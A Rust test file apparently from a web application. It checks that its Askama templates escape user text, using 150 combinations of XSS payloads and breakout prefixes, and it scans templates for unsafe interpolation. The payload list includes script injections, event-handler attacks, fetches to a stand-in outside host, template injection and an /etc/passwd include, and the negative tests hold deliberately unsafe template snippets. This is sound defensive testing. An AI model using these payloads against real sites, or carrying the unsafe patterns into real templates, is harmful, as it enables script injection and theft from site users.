//! A test over all templates: what people outside write is nowhere more than text.

use std::{fs, path::Path};

use askama::Template;

/// Pieces of markup, each of which would do something if a page took it for more than text …
const CORES: [&str; 30] = [
    "<script>alert(1)</script>",
    "<ScRiPt>prompt(1)</sCrIpT>",
    "<script src=//outside.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"fetch('//outside.example')\">",
    "<img src='https://outside.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<object data=//outside.example/x></object>",
    "<embed src=//outside.example/x>",
    "<link rel=stylesheet href=//outside.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//outside.example\">",
    "<base href=//outside.example/>",
    "<a href=\"javascript:alert(1)\" autofocus onfocus=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import '//outside.example/x.css';</style>",
    "<form action=//outside.example><button autofocus>x</button></form>",
    "<div hx-get='//outside.example' hx-trigger=load>x</div>",
    "<div hx-on:load='alert(1)'>x</div>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% include '/etc/passwd' %}",
    "javascript:alert(1)//",
    "<!--><img src=x onerror=alert(1)>-->",
    "<marquee onstart=alert(1)>x</marquee>",
];
/// … behind each of these.
const BEFORE: [&str; 5] = [
    "",
    "\">",
    "'>",
    "</textarea></title></script>",
    "\" onmouseover=alert(1) x=\"",
];

#[derive(Template)]
#[template(
    source = "<p title=\"{{ text }}\">{{ text }}</p><textarea>{{ text }}</textarea>",
    ext = "html"
)]
struct Plain<'a> {
    text: &'a str,
}

#[test]
fn one_hundred_and_fifty_pieces_of_markup_stay_text() {
    let skeleton = |text: &str| {
        let page = Plain { text }.render().unwrap();
        let signs = page.chars().filter(|one| "<>\"'".contains(*one));
        signs.collect::<String>()
    };
    let harmless = skeleton("x");
    let mut count = 0;
    for before in BEFORE {
        for core in CORES {
            assert_eq!(
                skeleton(&format!("{before}{core}")),
                harmless,
                "{before}{core}"
            );
            count += 1;
        }
    }
    assert_eq!(count, 150);
}

/// Where in a page something stands.
#[derive(Clone, Debug, PartialEq)]
enum Place {
    Text,
    /// Within a tag, outside of values.
    Tag,
    /// Within the value of this attribute, in double quotes.
    Value(String),
}

/// Addresses that are made in Rust, each from `/` on.
const MADE: [&str; 13] = [
    "link",
    "tab.link",
    "line.link",
    "one.link",
    "reason.link",
    "trial.link",
    "chat",
    "here",
    "self.at(",
    "self.explained(",
    "figure.link",
    "one.chat",
    "step.link",
];

fn check(name: &str, source: &str) {
    let mut place = Place::Text;
    let mut tag = String::new();
    let mut rest = source;
    while let Some(next) = rest.chars().next() {
        if rest.starts_with("{%") || rest.starts_with("{#") {
            let close = if rest.starts_with("{%") { "%}" } else { "#}" };
            let end = rest.find(close).unwrap() + close.len();
            let what = &rest[..end];
            assert!(!what.contains("autoescape"), "{name}: {what}");
            rest = &rest[end..];
            continue;
        }
        if let Some(inner) = rest.strip_prefix("{{") {
            let end = inner.find("}}").unwrap();
            expression(
                name,
                inner[..end].trim(),
                &place,
                &tag,
                source.len() - rest.len(),
                source,
            );
            rest = &inner[end + 2..];
            continue;
        }
        match (&place, next) {
            (Place::Text, '<') => {
                tag = rest[1..]
                    .chars()
                    .take_while(|one| one.is_ascii_alphanumeric() || *one == '/')
                    .collect();
                place = Place::Tag;
            }
            (Place::Tag, '>') => place = Place::Text,
            (Place::Tag, '"') => {
                let before = &source[..source.len() - rest.len()];
                let attribute = before.trim_end_matches('=');
                let start = attribute.rfind([' ', '\n', '}']).map_or(0, |at| at + 1);
                place = Place::Value(attribute[start..].to_ascii_lowercase());
            }
            (Place::Value(_), '"') => place = Place::Tag,
            _ => {}
        }
        rest = &rest[next.len_utf8()..];
    }
    assert_eq!(place, Place::Text, "{name} ends within a tag");
}

fn expression(name: &str, what: &str, place: &Place, tag: &str, at: usize, source: &str) {
    assert!(
        !what.contains("|safe") && !what.contains("| safe"),
        "{name}: {what}"
    );
    match place {
        Place::Text => assert!(
            !matches!(tag, "script" | "style"),
            "{name}: {what} in a {tag}"
        ),
        Place::Tag => panic!("{name}: {what} stands in a tag without quotes"),
        Place::Value(attribute) => {
            let never =
                attribute.starts_with("on") || matches!(attribute.as_str(), "style" | "srcdoc");
            assert!(!never, "{name}: {what} in {attribute}");
            let first = source[..at].ends_with('"');
            let address = matches!(attribute.as_str(), "href" | "src" | "action" | "formaction");
            let made = MADE
                .iter()
                .any(|known| what == *known || (known.ends_with('(') && what.starts_with(known)));
            assert!(
                !(address && first) || made,
                "{name}: {attribute} begins with {what}"
            );
        }
    }
}

#[test]
fn no_template_lets_markup_through() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("templates");
    let mut seen = 0;
    for file in fs::read_dir(folder).unwrap() {
        let path = file.unwrap().path();
        let name = path.file_name().unwrap().to_string_lossy().into_owned();
        check(&name, &fs::read_to_string(&path).unwrap());
        seen += 1;
    }
    assert!(seen >= 14, "{seen} templates");
}

#[test]
fn a_template_that_lets_markup_through_is_found() {
    for wrong in [
        "<p>{{ text|safe }}</p>",
        "<p title={{ text }}>x</p>",
        "<p onclick=\"{{ text }}\">x</p>",
        "<a href=\"{{ text }}\">x</a>",
        "<script>let x = \"{{ text }}\";</script>",
        "{% autoescape false %}<p>{{ text }}</p>",
    ] {
        let found = std::panic::catch_unwind(|| check("wrong", wrong));
        assert!(found.is_err(), "{wrong}");
    }
    check(
        "right",
        "<a href=\"/c/{{ text }}\" title=\"{{ text }}\">{{ text }}</a>",
    );
}
